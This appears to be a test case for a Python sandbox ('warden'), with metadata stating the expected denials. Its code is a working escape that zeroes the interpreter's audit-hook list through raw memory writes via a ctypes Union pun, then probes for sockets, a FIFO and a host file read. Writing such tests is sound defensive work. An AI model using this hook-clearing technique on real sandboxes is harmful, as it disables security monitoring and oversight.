# warden-case: jail-hook-cleared-raw-memory
# group: JAIL
# technique: clear the interpreter's audit-hook list through a ctypes Union pun (ctypes is loaded by numpy; no ctypes call, no event), then read a host file under /usr, bind an AF_UNIX socket, make a socket pair and a FIFO in the work dir: only the kernel still holds
# variant: other
# expect-static: deny
# expect-rules: IMP101
# expect-jail: no-read /usr/lib/os-release; outputs-regular
import os
import struct
import sys

import numpy

ctypes = sys.modules["ctypes"]


def symbols(path, wanted):
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum, _ = struct.unpack_from("<HHH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    found = {}
    for section in sections:
        if section[1] not in (2, 11):
            continue
        strtab = sections[section[6]]
        for at in range(section[4], section[4] + section[5], 24):
            name_at, _, _, _, value, size = struct.unpack_from("<IBBHQQ", data, at)
            start = strtab[4] + name_at
            name = data[start:data.index(b"\0", start)].decode()
            if name in wanted:
                found[name] = (value, size)
    return found


class Pun(ctypes.Union):
    _fields_ = [("address", ctypes.c_size_t), ("word", ctypes.POINTER(ctypes.c_size_t))]


regions = []
with open("/proc/self/maps") as fh:
    for line in fh:
        fields = line.split()
        low, high = (int(x, 16) for x in fields[0].split("-"))
        regions.append((low, high, fields[1], fields[-1] if len(fields) > 5 else ""))
readable = [(low, high) for low, high, perms, _ in regions if perms.startswith("r")]
hook = [(low, high) for low, high, _, path in regions if "_warden_hook" in path]
pun = Pun()


def peek(address):
    pun.address = address
    return pun.word[0]


cleared = False
found = symbols(os.path.realpath(sys.executable), {"_PyRuntime", "_Py_NoneStruct"})
if hook and len(found) == 2:
    start = id(None) - found["_Py_NoneStruct"][0] + found["_PyRuntime"][0]
    for address in range(start, start + found["_PyRuntime"][1], 8):
        entry = peek(address)
        if entry % 8 == 0 and any(low <= entry and entry + 24 <= high for low, high in readable):
            function = peek(entry + 8)
            if any(low <= function < high for low, high in hook):
                pun.address = address
                pun.word[0] = 0
                cleared = True
                break
print("audit hook cleared:", cleared, flush=True)


def attempt(name, fn):
    try:
        print(name, fn(), flush=True)
    except OSError as err:
        print(name, "refused", err.errno, flush=True)


import socket

attempt("unix socket", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).bind("/work/listener"))
attempt("socket pair", lambda: socket.socketpair())
attempt("fifo", lambda: os.mkfifo("/work/fifo"))
attempt("host file under /usr", lambda: open("/".join(["", "usr", "lib", "os-release"])).read())
